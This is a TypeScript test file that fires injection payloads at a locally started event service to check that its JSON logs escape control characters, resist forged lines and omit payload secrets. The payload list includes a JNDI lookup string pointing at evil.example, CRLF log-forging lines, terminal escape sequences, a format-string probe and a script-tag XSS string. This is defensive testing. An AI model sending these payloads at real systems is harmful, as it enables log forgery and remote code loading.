import { once } from 'node:events';
import { connect } from 'node:net';
import { expect, it, onTestFinished } from 'vitest';
import { startService } from '../src/index.ts';
import { serviceLogger } from '../src/service-logger.ts';
import { configure } from './configure.ts';
import { call, postJson, sample } from './running-service.ts';

const FORGED = '{"level":60,"msg":"forged"}';
const POISONS: readonly string[] = [
  `\r\n${FORGED}\r\n`,
  `\n${FORGED}`,
  '\r',
  `\u2028${FORGED}`,
  `\u2029${FORGED}`,
  `\u0085${FORGED}`,
  '\u001b[2J\u001b[31mred',
  '\u001b]0;title\u0007',
  '\u009b31mred',
  '\u0000',
  '\u0008\u0008\u0008',
  '\u007f',
  '\u202e drow',
  '$\u007bjndi:ldap://evil.example/a}',
  '%s %d %j %n',
  '"}\n{"a":"',
  '\\',
  '<script>alert(1)</script>',
  'x'.repeat(1024 * 1024),
];

// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is what it is for.
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029]/;

async function loggedService() {
  let text = '';
  const write = (line: string) => {
    text += line;
  };
  const logger = serviceLogger('debug', { write });
  const service = await startService({ configuration: configure({ logLevel: 'debug' }), logger });
  onTestFinished(() => service.stop());
  return { url: service.url, logged: () => text };
}

/** Bytes as no client of HTTP would send them. */
async function say(url: string, text: string): Promise<void> {
  const socket = connect(Number(new URL(url).port), '127.0.0.1');
  socket.on('error', () => {});
  socket.resume();
  socket.end(Buffer.from(text, 'utf8'));
  await once(socket, 'close');
}

it('writes one line of JSON for each thing that happened, whatever clients send', async () => {
  const { url, logged } = await loggedService();
  let requests = 0;
  const send = async (asked: Promise<unknown>) => {
    requests++;
    await asked;
  };
  for (const poison of POISONS) {
    const header = poison.replace(/[^\t\u0020-\u007e\u0080-\u00ff]/g, '?').slice(0, 8_000);
    const address = encodeURIComponent(poison.slice(0, 1_000));
    await send(postJson(`${url}/events`, sample({ topic: poison })));
    await send(postJson(`${url}/events`, sample({ type: poison })));
    await send(postJson(`${url}/events`, sample({ metadata: { userId: poison } })));
    await send(postJson(`${url}/events`, sample({ payload: { poison: `secret ${poison}` } })));
    await send(
      postJson(`${url}/subscriptions`, { name: poison, topic: poison, endpoint: `https://example.com/${poison}` }),
    );
    await send(call(`${url}/events?topic=${address}`));
    await send(call(`${url}/events/${address}`));
    await send(call(`${url}/${address}`));
    await send(
      call(`${url}/livez`, { headers: { 'x-request-id': header, 'user-agent': header, 'x-forwarded-for': header } }),
    );
    await send(call(`${url}/livez`, { headers: { origin: header, 'accept-version': header } }));
  }
  // In the line of the request itself and in the host, where clients write only what they mean to.
  for (const poison of ['\u009b31m', '\u0085', '\u2028', '\u00ff', '\u007f', '$\u007bjndi:x}', '"}{"']) {
    await say(url, `GET /${poison} HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n`);
    await say(url, `GET /livez HTTP/1.1\r\nhost: ${poison}\r\nconnection: close\r\n\r\n`);
    await say(url, `GET /livez HTTP/1.1\r\nhost: localhost\r\nuser-agent: ${poison}\r\nconnection: close\r\n\r\n`);
  }
  const lines = logged().trimEnd().split('\n');
  const entries = lines.map((line) => JSON.parse(line) as { msg: string; level: number });
  expect(lines.filter((line) => RAW_CONTROL.test(line))).toEqual([]);
  const told = (msg: string) => entries.filter((entry) => entry.msg === msg).length;
  expect(told('incoming request')).toBe(told('request completed'));
  expect(told('incoming request')).toBeGreaterThanOrEqual(requests);
  // Nothing but what the service says itself: of each request two lines, and what belongs to its life.
  const own = new Set(['incoming request', 'request completed', 'accepting connections', 'listening', 'stream closed']);
  expect(entries.filter(({ msg, level }) => level > 20 && !own.has(msg)).map(({ msg }) => msg)).toEqual([
    'Events are kept in memory only: they are gone when the service stops.',
  ]);
  expect(Math.max(...lines.map((line) => line.length))).toBeLessThan(20_000);
  // Payloads are not for logs at all.
  expect(logged()).not.toContain('secret');
  process.stdout.write(`${JSON.stringify({ logInjection: lines.length, requests, controlCharacters: 0 })}\n`);
});

it('escapes on a line what a terminal or a reader of lines would act upon, and keeps the rest', () => {
  let text = '';
  const logger = serviceLogger('info', { write: (line: string) => void (text += line) });
  logger.info({ value: 'a\u009bb\u2028c\u0085d\u007fé' }, 'line \u001b[31m');
  expect(text).toMatch(/"a\\u009bb\\u2028c\\u0085d\\u007fé"/);
  expect(JSON.parse(text)).toMatchObject({ value: 'a\u009bb\u2028c\u0085d\u007fé', msg: 'line \u001b[31m' });
});
